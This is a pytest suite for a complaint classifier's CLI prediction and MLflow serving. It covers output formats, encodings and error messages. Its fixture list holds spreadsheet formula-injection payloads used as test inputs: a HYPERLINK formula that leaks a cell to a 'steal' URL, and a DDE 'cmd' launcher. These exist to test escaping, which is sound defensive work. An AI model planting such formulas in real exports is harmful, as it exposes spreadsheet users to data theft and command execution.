"""`nichetune predict` and `mlflow models serve` on a tiny model registered in a project's SQLite MLflow store:
the same predictions both ways, spreadsheet formulas escaped, and one-line errors for bad input."""

from __future__ import annotations

import codecs
import json
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from contextlib import contextmanager
from pathlib import Path

import mlflow
import numpy as np
import pandas as pd
import pytest
from mlflow import MlflowClient

from tasks.config import FinetuneParams, Paths, load_params
from tasks.finetune import finetune
from tasks.predict import FORMULA_START, escape_formula, model_uri
from tasks.register import _experiment_id, _log_model, _tracking, tracking_uri
from tests.conftest import cfpb_sample, make_project, nichetune, project_params

HOSTILE = ['=HYPERLINK("http://example.org/steal?x="&A1,"click")', "", "-2+3", "@SUM(A1:A9)", "\tindented",
           "+cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def project(tmp_path_factory, tiny_backbone) -> tuple[Path, str]:
    """A project whose tracking store holds `complaints` version 1, aliased champion; returns root and URI."""
    root = make_project(tmp_path_factory.mktemp("predict") / "project", cfpb_sample(per_class=6),
                        project_params(str(tiny_backbone)))
    params = load_params(root / "params.yaml")
    paths = Paths.of(root, params)
    train = cfpb_sample(per_class=6).rename(columns={"issue": "label"})[["text", "label"]]
    cfg = FinetuneParams(backbone=str(tiny_backbone), strategy="head", epochs=1, batch_size=8, max_length=64)
    model = finetune(train, cfg, seed=0, out_dir=tmp_path_factory.mktemp("predict-model"))
    uri = tracking_uri(paths)
    with _tracking(uri), mlflow.start_run(experiment_id=_experiment_id("tests", uri, paths)):
        info = _log_model(model.model_dir, "complaints")
    MlflowClient(uri, registry_uri=uri).set_registered_model_alias("complaints", "champion",
                                                                  str(info.registered_model_version))
    return root, uri


@pytest.fixture(scope="module")
def new_rows(project) -> Path:
    """Unlabeled rows to predict: real complaints, formula-like and empty texts, a numeric column."""
    root, _ = project
    real = cfpb_sample(per_class=2)[["complaint_id", "text"]]
    odd = pd.DataFrame({"complaint_id": range(len(HOSTILE)), "text": HOSTILE})
    frame = pd.concat([real, odd], ignore_index=True)
    frame["amount"] = ["-3.5", "=1+1"] + ["12"] * (len(frame) - 2)
    frame.to_csv(root / "data" / "new.csv", index=False)
    return root / "data" / "new.csv"



def unescape(value):
    """The value before `escape_formula` (what the model saw and what the server returns)."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


def read_output(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, keep_default_na=False, dtype={"complaint_id": str, "amount": str, "text": str})


def test_predict_writes_every_row_with_class_probabilities(project, new_rows, monkeypatch, capsys):
    root, _ = project
    code, out, _ = nichetune(root, monkeypatch, capsys, "predict", "data/new.csv")
    written = root / "data" / "new.predictions.csv"
    assert code == 0 and out.splitlines() == [
        f"13 predictions by models:/complaints@champion (version 1) written to {written}",  # complaints span lines
        "1 row has an empty text and no prediction (line 34); fill in 'text' to have it predicted"]
    frame = read_output(written)
    labels = sorted(cfpb_sample(per_class=6)["issue"].unique())
    assert frame.columns.tolist() == (["complaint_id", "text", "amount", "prediction", "probability"]
                                      + [f"prob_{label}" for label in labels])
    empty = frame.iloc[9]  # kept, with nothing made up for it: a label there would be the classes' prior
    assert empty["text"] == "" and (empty.iloc[3:] == "").all()
    frame = frame.drop(index=9)
    probs = frame[[f"prob_{label}" for label in labels]].astype(float).to_numpy()
    assert np.allclose(probs.sum(axis=1), 1, atol=1e-5)
    assert (frame["probability"].astype(float) == probs.max(axis=1)).all()
    assert (frame["prediction"] == [labels[i] for i in probs.argmax(axis=1)]).all()


def test_cells_a_spreadsheet_would_run_get_a_leading_apostrophe(project, new_rows, monkeypatch, capsys):
    root, _ = project
    nichetune(root, monkeypatch, capsys, "predict", str(new_rows), "--output", "out/escaped.csv")
    frame = read_output(root / "out" / "escaped.csv")
    assert frame["text"].iloc[8:].tolist() == ["'" + HOSTILE[0], "", "'-2+3", "'@SUM(A1:A9)", "'\tindented",
                                               "'+cmd|' /C calc'!A0"]
    assert frame["amount"].iloc[:2].tolist() == ["-3.5", "'=1+1"]  # a negative number is data, not a formula
    assert [escape_formula(v) for v in ("\rx", "ok", "-", "+1e5", 3)] == ["'\rx", "ok", "'-", "+1e5", 3]


def test_the_model_reads_a_text_decoded_wrong_upstream_as_ingest_stored_it(project, monkeypatch, capsys):
    """A spreadsheet round trip that read UTF-8 as cp1252 ("don’t" as "donâ€™t"): predicted as the text itself, as
    ingest would have stored it; the output keeps the cell as the file has it."""
    root, _ = project
    right = cfpb_sample(per_class=1)[["complaint_id", "text"]].head(3).assign(text=lambda f: f["text"] + " Don’t.")
    wrong = right.assign(text=right["text"].map(lambda text: text.encode("utf-8").decode("cp1252")))
    for name, frame in (("decoded-right", right), ("decoded-twice", wrong)):
        frame.to_csv(root / "data" / f"{name}.csv", index=False)
        assert nichetune(root, monkeypatch, capsys, "predict", f"data/{name}.csv")[0] == 0
    right_out, wrong_out = (read_output(root / "data" / f"{name}.predictions.csv")
                            for name in ("decoded-right", "decoded-twice"))
    assert wrong_out["text"].str.endswith(" Donâ€™t.").all()
    assert wrong_out.drop(columns="text").equals(right_out.drop(columns="text"))


def test_an_excel_export_gets_its_predictions_back_in_its_own_dialect(project, monkeypatch, capsys):
    """A semicolon-separated cp1252 export (Excel in a European locale) and Excel's tab-separated "Unicode text"
    come back with their delimiter and a UTF-8 BOM, which Excel needs to read the accents, and the semicolon one with
    decimal commas, which that Excel reads as numbers; a plain UTF-8 CSV stays plain."""
    root, _ = project
    frame = pd.DataFrame({"ref": ["a1", "a2"], "text": ["Überweisung nach Köln fehlgeschlagen; bitte prüfen",
                                                        "Le prélèvement a été débité deux fois"]})
    (root / "data" / "excel.csv").write_bytes(frame.to_csv(index=False, sep=";").encode("cp1252"))
    (root / "data" / "unicode.txt").write_bytes(frame.to_csv(index=False, sep="\t").encode("utf-16"))
    (root / "data" / "plain.csv").write_text(frame.to_csv(index=False), encoding="utf-8")
    for name in ("excel.csv", "unicode.txt", "plain.csv"):
        assert nichetune(root, monkeypatch, capsys, "predict", f"data/{name}")[0] == 0
    written = {name: (root / "data" / name).read_bytes()
               for name in ("excel.predictions.csv", "unicode.predictions.tsv", "plain.predictions.csv")}
    assert written["excel.predictions.csv"].startswith(codecs.BOM_UTF8 + b"ref;text;prediction;probability;prob_")
    assert written["unicode.predictions.tsv"].startswith(codecs.BOM_UTF8 + b"ref\ttext\tprediction\t")
    assert written["plain.predictions.csv"].startswith(b"ref,text,prediction,probability,prob_")
    outputs = [pd.read_csv(root / "data" / "excel.predictions.csv", sep=";", encoding="utf-8-sig", decimal=","),
               pd.read_csv(root / "data" / "unicode.predictions.tsv", sep="\t", encoding="utf-8-sig"),
               pd.read_csv(root / "data" / "plain.predictions.csv")]
    for output in outputs:
        assert output["text"].tolist() == frame["text"].tolist()
        assert output.drop(columns="text").equals(outputs[2].drop(columns="text"))
    assert outputs[0]["probability"].dtype == float


def test_a_semicolon_file_that_writes_decimal_points_keeps_them(project, monkeypatch, capsys):
    root, _ = project
    frame = pd.DataFrame({"text": cfpb_sample(per_class=1)["text"].head(2).tolist(), "amount": ["12.5", "300"]})
    frame.to_csv(root / "data" / "points.csv", index=False, sep=";")
    assert nichetune(root, monkeypatch, capsys, "predict", "data/points.csv")[0] == 0
    output = pd.read_csv(root / "data" / "points.predictions.csv", sep=";", dtype={"amount": str})
    assert output["amount"].tolist() == ["12.5", "300"] and output["probability"].dtype == float


def test_a_workbook_gets_a_workbook_back_with_its_cells_as_they_were(project, monkeypatch, capsys):
    """Numbers and dates stay numbers and dates, a text that looks like a formula stays text, and the probabilities
    are numbers: no decimal separator for a locale to misread."""
    from datetime import datetime

    from openpyxl import Workbook, load_workbook

    root, _ = project
    texts = cfpb_sample(per_class=1)["text"].head(2).tolist()
    book = Workbook()
    book.active.append(["ref", "text", "received"])
    book.active.append([7, texts[0], datetime(2026, 7, 9)])
    book.active.append([8.5, "=HYPERLINK(\"http://example.org\")", datetime(2026, 9, 7)])
    book.active.append([9, texts[1], None])
    book.active["B3"].data_type = "s"  # a text cell that starts with "=", as Excel keeps one typed after an apostrophe
    book.save(root / "data" / "new.xlsx")
    code, out, _ = nichetune(root, monkeypatch, capsys, "predict", "data/new.xlsx")
    assert code == 0 and out.endswith(f"written to {root / 'data' / 'new.predictions.xlsx'}\n")
    sheet = load_workbook(root / "data" / "new.predictions.xlsx").active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][:5] == ["ref", "text", "received", "prediction", "probability"]
    assert [row[:3] for row in rows[1:]] == [[7, texts[0], datetime(2026, 7, 9)],
                                             [8.5, "=HYPERLINK(\"http://example.org\")", datetime(2026, 9, 7)],
                                             [9, texts[1], None]]
    assert sheet["B3"].data_type == "s"  # text, not a formula Excel would run
    assert all(isinstance(value, float) and 0 <= value <= 1 for row in rows[1:] for value in row[4:])


@pytest.mark.slow  # starts mlflow models serve
def test_mlflow_models_serve_answers_with_the_same_predictions(project, new_rows, monkeypatch, capsys, tmp_path):
    root, uri = project
    nichetune(root, monkeypatch, capsys, "predict", str(new_rows), "--output", str(tmp_path / "cli.csv"))
    written = read_output(tmp_path / "cli.csv")
    texts = pd.read_csv(new_rows, keep_default_na=False, dtype=str)["text"].tolist()
    with served("models:/complaints@champion", uri, tmp_path / "server.log") as url:
        request = urllib.request.Request(
            f"{url}/invocations", headers={"Content-Type": "application/json"},
            data=json.dumps({"dataframe_split": {"columns": ["text"], "data": [[t] for t in texts]}}).encode())
        with urllib.request.urlopen(request, timeout=60) as response:
            answer = pd.DataFrame(json.load(response)["predictions"])
    assert answer.columns.tolist() == written.columns.tolist()[3:]
    assert answer["prediction"].tolist() == written["prediction"].map(unescape).replace("", None).tolist()
    assert answer.iloc[9].isna().all()  # the empty text: null in JSON, as empty cells in the CSV
    numbers = [c for c in answer.columns if c != "prediction"]  # float32 in both; the CSV keeps every digit
    expected = written[numbers].replace("", np.nan).to_numpy(np.float32)
    assert np.array_equal(answer[numbers].to_numpy(np.float32), expected, equal_nan=True)


@contextmanager
def served(model: str, uri: str, log: Path, timeout: float = 90):
    """`mlflow models serve` for `model` as a subprocess in its own process group; yields its URL and always
    stops the whole group (mlflow's CLI execs uvicorn under bash)."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    bin_dir = str(Path(sys.executable).parent)  # mlflow runs `uvicorn` from PATH
    env = {**os.environ, "MLFLOW_TRACKING_URI": uri, "PATH": bin_dir + os.pathsep + os.environ["PATH"],
           "TMPDIR": str(log.parent)}  # the model copy it downloads goes away with the test folder
    command = [f"{bin_dir}/mlflow", "models", "serve", "-m", model, "--env-manager", "local",
               "-h", "127.0.0.1", "-p", str(port)]
    with log.open("wb") as output:
        process = subprocess.Popen(command, env=env, stdout=output, stderr=subprocess.STDOUT,
                                   start_new_session=True)
        try:
            wait_for_ping(process, f"http://127.0.0.1:{port}", log, timeout)
            yield f"http://127.0.0.1:{port}"
        finally:
            stop_group(process)


def wait_for_ping(process: subprocess.Popen, url: str, log: Path, timeout: float) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if process.poll() is not None:
            pytest.fail(f"mlflow models serve exited with {process.returncode}:\n{log.read_text()}")
        try:
            with urllib.request.urlopen(f"{url}/ping", timeout=2) as response:
                if response.status == 200:
                    return
        except OSError:
            time.sleep(0.5)
    pytest.fail(f"mlflow models serve did not answer /ping in {timeout} s:\n{log.read_text()}")


def stop_group(process: subprocess.Popen) -> None:
    try:
        os.killpg(process.pid, signal.SIGTERM)
        process.wait(timeout=15)
    except ProcessLookupError:
        pass
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


def test_a_missing_text_column_is_one_line_naming_file_column_and_columns(project, monkeypatch, capsys):
    root, _ = project
    pd.DataFrame({"id": [1], "body": ["my loan"]}).to_csv(root / "data" / "wrong.csv", index=False)
    code, out, err = nichetune(root, monkeypatch, capsys, "predict", "data/wrong.csv")
    assert code == 2 and out == ""
    assert err == (f"error: {root / 'data' / 'wrong.csv'}: no column 'text' (ingest.text_column); "
                   "columns found: 'id', 'body'\n")
    assert not (root / "data" / "wrong.predictions.csv").exists()


@pytest.mark.parametrize("model, message", [
    ("complaints@staging", "error: no version of complaints has the alias staging (aliases: champion -> version 1); "
                           "promote one with nichetune promote, or pass --model complaints/VERSION\n"),
    ("complaints/7", "error: complaints has no version '7' (versions: 1); pass one of them, or "
                     "--model complaints@champion\n"),
    ("models:/nosuch@champion", "error: no registered model named 'nosuch' in {uri} (registered: complaints); "
                                "train and register one with nichetune run, or pass --model NAME@ALIAS\n"),
])
def test_an_unknown_model_or_alias_is_one_line_saying_what_exists(project, new_rows, monkeypatch, capsys,
                                                                  model, message):
    root, uri = project
    code, out, err = nichetune(root, monkeypatch, capsys, "predict", "data/new.csv", "--model", model,
                               "--output", "never.csv")
    assert (code, out, err) == (2, "", message.format(uri=uri))
    assert not (root / "never.csv").exists()


def test_a_row_that_does_not_fit_the_header_is_one_line_naming_it(project, monkeypatch, capsys):
    root, _ = project
    (root / "data" / "ragged.csv").write_text("id,text\n1,my loan\n2,charged twice, then again,and again\n")
    code, out, err = nichetune(root, monkeypatch, capsys, "predict", "data/ragged.csv")
    assert (code, out) == (2, "")
    assert err == (f"error: {root / 'data' / 'ragged.csv'}: line 3: ragged row: 4 fields where the header has 2 "
                   "(1 such rows); fix them (quote fields that hold the delimiter) and run predict again\n")


def test_the_input_file_is_never_overwritten(project, new_rows, monkeypatch, capsys):
    root, _ = project
    before = new_rows.read_bytes()
    code, _, err = nichetune(root, monkeypatch, capsys, "predict", "data/new.csv", "--output", "data/new.csv")
    assert code == 2 and "is the input file" in err and new_rows.read_bytes() == before


def test_model_references():
    assert model_uri(None, "complaints") == "models:/complaints@champion"
    assert model_uri("other", "complaints") == "models:/other@champion"
    assert model_uri("other/3", "complaints") == "models:/other/3"
    assert model_uri("other@challenger", "complaints") == "models:/other@challenger"
    assert model_uri("models:/x@y", "complaints") == "models:/x@y"


def test_a_damaged_registered_model_is_one_line_naming_the_file(project, new_rows, tiny_backbone, monkeypatch,
                                                                 capsys, tmp_path):
    from tasks.model import HEAD_FILE

    root, uri = project
    train = cfpb_sample(per_class=4).rename(columns={"issue": "label"})[["text", "label"]]
    cfg = FinetuneParams(backbone=str(tiny_backbone), strategy="head", epochs=1, batch_size=8, max_length=32)
    model = finetune(train, cfg, seed=0, out_dir=tmp_path)
    with _tracking(uri), mlflow.start_run(experiment_id=_experiment_id("tests", uri, Paths.of(root, load_params(
            root / "params.yaml")))):
        info = _log_model(model.model_dir, "damaged")
    stored = [path for path in (root / "outputs").rglob(HEAD_FILE) if info.model_id in str(path)]
    assert len(stored) == 1
    stored[0].write_bytes(stored[0].read_bytes()[:64])  # a copy cut short
    capsys.readouterr()  # what registering printed
    code, out, err = nichetune(root, monkeypatch, capsys, "predict", str(new_rows), "--model", "damaged/1")
    assert code != 0 and err.count("\n") == 1, err
    assert f"{HEAD_FILE}: the classification head cannot be loaded" in err
